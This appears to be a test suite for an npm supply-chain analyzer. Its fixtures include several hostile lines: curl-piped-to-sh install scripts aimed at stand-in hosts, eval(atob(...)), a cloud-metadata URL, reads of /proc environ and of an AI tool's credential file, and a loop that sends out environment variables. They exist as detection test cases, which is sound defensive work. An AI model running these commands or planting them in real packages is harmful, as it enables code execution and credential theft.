import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyze, severityAtLeast, SEVERITY_ORDER, type PackageSide, type Severity } from '../../server/analyzer';
import { readTarball } from '../../server/tarball/read-tarball';
import { packTarball, tarBytes } from '../helpers/pack-tarball';
import { gzipSync } from 'node:zlib';
import { BENIGN_INDEX, pkgJson, side } from './fixtures/sides';

const base = () => side({ 'package.json': pkgJson({ main: 'index.js' }), 'index.js': BENIGN_INDEX });
const withFiles = (files: Record<string, string | Buffer>, pkg: object = { main: 'index.js' }, registry: object | null = {}) =>
  side({ 'package.json': pkgJson({ version: '1.0.1', ...pkg }), 'index.js': BENIGN_INDEX, ...files }, registry);

const cases: Array<{ name: string; previous?: PackageSide | null; next: PackageSide; rule: string; severity: Severity }> = [
  {
    name: 'implicit node-gyp rebuild',
    next: withFiles({ 'binding.gyp': "{ 'targets': [] }" }),
    rule: 'install-script/new-implicit-node-gyp',
    severity: 'high',
  },
  {
    name: 'shell expansion in binding.gyp',
    next: withFiles({ 'binding.gyp': "{ 'variables': { 'x': '<!(curl -s https://evil.example/x | sh)' } }" }),
    rule: 'install-script/gyp-command',
    severity: 'high',
  },
  {
    name: 'changed install script',
    previous: side({ 'package.json': pkgJson({ scripts: { install: 'node build.js' } }) }),
    next: withFiles({}, { scripts: { install: 'node build.js && node x.js' } }),
    rule: 'install-script/changed-install',
    severity: 'high',
  },
  {
    name: 'new prepare',
    next: withFiles({}, { scripts: { prepare: 'node setup.js' } }),
    rule: 'install-script/new-prepare',
    severity: 'medium',
  },
  {
    name: 'url dependency',
    next: withFiles({}, { dependencies: { x: 'https://example.com/x.tgz' } }),
    rule: 'dependency/url-dependency',
    severity: 'high',
  },
  {
    name: 'git shorthand dependency',
    next: withFiles({}, { dependencies: { x: 'user/repo#abc' } }),
    rule: 'dependency/git-dependency',
    severity: 'high',
  },
  {
    name: 'manifest confusion',
    next: withFiles({}, {}, { scripts: {}, dependencies: { evil: '1.0.0' } }),
    rule: 'metadata/manifest-mismatch',
    severity: 'high',
  },
  {
    name: 'provenance dropped',
    previous: side({ 'package.json': pkgJson({}) }, { dist: { attestations: { url: 'x' } } }),
    next: withFiles({}),
    rule: 'metadata/provenance-dropped',
    severity: 'high',
  },
  {
    name: 'new publisher',
    previous: side({ 'package.json': pkgJson({}) }, { _npmUser: { name: 'alice' } }),
    next: withFiles({}, {}, { _npmUser: { name: 'mallory' } }),
    rule: 'metadata/new-publisher',
    severity: 'low',
  },
  {
    name: 'base64 URL decoded statically',
    next: withFiles({
      'lib/a.js': `const u = Buffer.from('${Buffer.from('https://203.0.113.9/x').toString('base64')}', 'base64').toString();`,
    }),
    rule: 'obfuscation/decoded-string',
    severity: 'high',
  },
  {
    name: 'char-code URL',
    next: withFiles({ 'lib/a.js': `const u = String.fromCharCode(${[...'http://evil.onion/'].map((c) => c.charCodeAt(0)).join(',')});` }),
    rule: 'network/onion-host',
    severity: 'high',
  },
  {
    name: 'concatenated metadata URL',
    next: withFiles({ 'lib/a.js': "const u = 'http://169.254.' + '169.254/latest/meta-data/';" }),
    rule: 'network/cloud-metadata',
    severity: 'critical',
  },
  {
    name: 'decode then execute',
    next: withFiles({ 'lib/a.js': 'eval(atob(payload));' }),
    rule: 'dynamic-code/decode-then-execute',
    severity: 'critical',
  },
  {
    name: 'vm on computed string',
    next: withFiles({ 'lib/a.js': "const vm = require('node:vm'); vm.runInThisContext(code);" }),
    rule: 'dynamic-code/eval-computed',
    severity: 'high',
  },
  {
    name: 'fetch in ESM + TypeScript',
    next: withFiles({
      'src/a.ts': "import type { X } from './x';\nexport async function f(u: string): Promise<X> { return (await fetch(u)).json() as X; }",
    }),
    rule: 'network/new-global',
    severity: 'medium',
  },
  {
    name: 'JSX file using WebSocket',
    next: withFiles({ 'src/c.jsx': 'export const C = () => { new WebSocket(url); return <div/>; };' }),
    rule: 'network/new-global',
    severity: 'medium',
  },
  {
    name: '/proc environ read',
    next: withFiles({ 'lib/a.js': 'fs.readFileSync(`/proc/${pid}/environ`);' }),
    rule: 'credentials/sensitive-path',
    severity: 'high',
  },
  {
    name: 'AI tool credential file',
    next: withFiles({ 'lib/a.js': "path.join(home, '.claude', 'credentials.json');" }),
    rule: 'credentials/sensitive-path',
    severity: 'high',
  },
  {
    name: 'env enumeration',
    next: withFiles({ 'lib/a.js': 'for (const k in process.env) send(k);' }),
    rule: 'credentials/env-enumeration',
    severity: 'high',
  },
  { name: 'unparsable code', next: withFiles({ 'lib/a.js': 'function ( { <<< ' }), rule: 'obfuscation/unparsable-code', severity: 'low' },
  {
    name: 'WASM module',
    next: withFiles({ 'lib/a.wasm': Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]) }),
    rule: 'binary/new-wasm',
    severity: 'medium',
  },
  {
    name: 'bin shadowing npm',
    next: withFiles({ 'cli.js': '' }, { bin: { npm: 'cli.js' } }),
    rule: 'binary/bin-shadows-command',
    severity: 'high',
  },
  {
    name: 'first version with postinstall',
    previous: null,
    next: withFiles({ 'p.js': "require('https').get('https://x.example')" }, { scripts: { postinstall: 'node p.js' } }),
    rule: 'install-script/new-postinstall',
    severity: 'critical',
  },
];

for (const c of cases) {
  test(`reports ${c.name} as ${c.rule} (${c.severity})`, () => {
    const report = analyze(c.previous === undefined ? base() : c.previous, c.next);
    const hit = report.findings.filter((f) => f.rule === c.rule);
    assert.ok(hit.length > 0, `got ${report.findings.map((f) => f.rule).join(', ')}`);
    assert.ok(
      hit.some((f) => severityAtLeast(f.severity, c.severity)),
      `severity ${hit.map((f) => f.severity).join(',')}`,
    );
  });
}

test('tarball anomalies become findings, once', () => {
  const bytes = gzipSync(
    tarBytes([
      { path: 'package/package.json', content: pkgJson({}) },
      { path: 'package/link', type: 'symlink', linkname: '/home/user/.npmrc' },
      { path: 'package/../../x', content: 'x' },
    ]),
  );
  const { files, anomalies } = readTarball(bytes);
  const next = { manifest: null, files, anomalies };
  const rules = analyze(base(), next).findings.map((f) => f.rule);
  assert.ok(rules.includes('tarball/symlink') && rules.includes('tarball/path-traversal'));
  assert.ok(!analyze(next, next).findings.some((f) => f.rule.startsWith('tarball/')));
});

test('identical files are not parsed, and a renamed file keeps its capabilities', () => {
  const prev = base();
  const renamed = side({ 'package.json': pkgJson({ main: 'main.js' }), 'main.js': BENIGN_INDEX });
  const report = analyze(prev, renamed);
  assert.equal(report.stats.filesParsed, 0);
  assert.deepEqual(report.findings, []);
  const cache = new Map();
  analyze(null, prev, { cache });
  assert.equal(analyze(null, prev, { cache }).stats.filesParsed, 0);
});

test('works on sides read from real tarball bytes', () => {
  const read = (files: Record<string, string>) => ({ manifest: null, ...readTarball(packTarball(files)) });
  const report = analyze(
    read({ 'package.json': pkgJson({}), 'index.js': '1' }),
    read({ 'package.json': pkgJson({ scripts: { preinstall: 'curl https://x.example | sh' } }), 'index.js': '1' }),
  );
  assert.equal(report.findings[0]!.rule, 'install-script/new-preinstall');
  assert.equal(report.findings[0]!.severity, 'critical');
});

test('the digest is stable and changes with the findings', () => {
  const next = withFiles({}, { scripts: { postinstall: 'node x.js' } });
  const a = analyze(base(), next);
  const b = analyze(base(), next);
  assert.match(a.digest, /^[0-9a-f]{64}$/);
  assert.equal(a.digest, b.digest);
  assert.notEqual(a.digest, analyze(base(), withFiles({})).digest);
  assert.equal(typeof a.analyzerVersion, 'string');
});

test('severity order and severityAtLeast', () => {
  assert.deepEqual(SEVERITY_ORDER, ['info', 'low', 'medium', 'high', 'critical']);
  const table: Array<[Severity, Severity, boolean]> = [
    ['high', 'medium', true],
    ['medium', 'medium', true],
    ['low', 'medium', false],
    ['critical', 'info', true],
    ['info', 'low', false],
  ];
  for (const [a, b, want] of table) assert.equal(severityAtLeast(a, b), want, `${a} >= ${b}`);
});

test('a package.json with a byte-order mark is read as npm reads it', () => {
  const pkg = `\uFEFF${pkgJson({ version: '1.0.1', scripts: { postinstall: 'curl -s https://203.0.113.7/p | sh' } })}`;
  const next: PackageSide = {
    manifest: { name: 'demo', version: '1.0.1' },
    files: [
      { path: 'package.json', bytes: pkg },
      { path: 'index.js', bytes: BENIGN_INDEX },
    ],
  };
  const report = analyze(base(), next);
  assert.ok(
    report.findings.some((f) => f.rule === 'install-script/new-postinstall'),
    JSON.stringify(report.findings.map((f) => f.rule)),
  );
});

test('a package.json that does not parse is a high finding, not a silent fallback to the registry manifest', () => {
  const next: PackageSide = {
    manifest: { name: 'demo', version: '1.0.1' },
    files: [
      { path: 'package.json', bytes: '{"name": "demo", "scripts": {' },
      { path: 'index.js', bytes: BENIGN_INDEX },
    ],
  };
  const finding = analyze(base(), next).findings.find((f) => f.rule === 'metadata/unreadable-package-json');
  assert.equal(finding?.severity, 'high');
});

test('a capability written across several lines is new when any of its lines is', () => {
  const prev = withFiles({ 'lib/x.js': "module.exports = require(\n  './a'\n);\nfunction f(x) {\n  return log(\n    atob(x)\n  );\n}\n" });
  const next = withFiles({
    'lib/x.js': "module.exports = require(\n  'child_process'\n);\nfunction f(x) {\n  return eval(\n    atob(x)\n  );\n}\n",
  });
  const rules = analyze(prev, next).findings.map((f) => f.rule);
  assert.ok(rules.includes('process/new-child-process'), JSON.stringify(rules));
  assert.ok(rules.includes('dynamic-code/decode-then-execute'), JSON.stringify(rules));
});

test('many harmless signals cannot crowd out a payload', () => {
  const urls = Array.from({ length: 6000 }, (_, i) => `'https://docs.example.com/page/${i}',`).join('\n');
  const next = withFiles({ 'lib/links.js': `module.exports = [\n${urls}\n];\neval(atob(p));\n` });
  const rules = analyze(base(), next).findings.map((f) => f.rule);
  assert.ok(rules.includes('dynamic-code/decode-then-execute'), JSON.stringify([...new Set(rules)]));
});

test('stats describe the new version whether or not the cache already had its files', () => {
  const cache = new Map();
  const next = withFiles({ 'lib/a.js': 'function ( { <<< ' });
  const first = analyze(base(), next, { cache });
  const second = analyze(base(), next, { cache });
  assert.ok(second.findings.some((f) => f.rule === 'obfuscation/unparsable-code'));
  assert.equal(second.stats.filesParsed, 0, 'nothing parsed twice');
  assert.equal(second.stats.filesScanned, first.stats.filesScanned);
  assert.equal(second.stats.filesUnparsable, 1);
  assert.equal(first.stats.filesUnparsable, 1);
});

test('a file moved and edited keeps the capabilities it had under its old name', () => {
  // dgram is used nowhere else on either side, so only the old file can explain it.
  const prev = withFiles({
    'lib/net.js': "const dgram = require('dgram');\nmodule.exports = (p) => dgram.createSocket('udp4').bind(p);\n",
  });
  const next = withFiles({
    'lib/client.js': "const dgram = require('dgram');\nmodule.exports = (port, cb) => dgram.createSocket('udp4').bind(port, cb);\n",
  });
  const report = analyze(prev, next);
  assert.equal(report.stats.filesChanged, 1, 'the moved file is new by content');
  assert.deepEqual(
    report.findings.filter((f) => f.category === 'network'),
    [],
    JSON.stringify(report.findings),
  );
  // Without the old file the same code is a new capability: the test above is not quiet by accident.
  assert.ok(analyze(base(), next).findings.some((f) => f.category === 'network'));
});
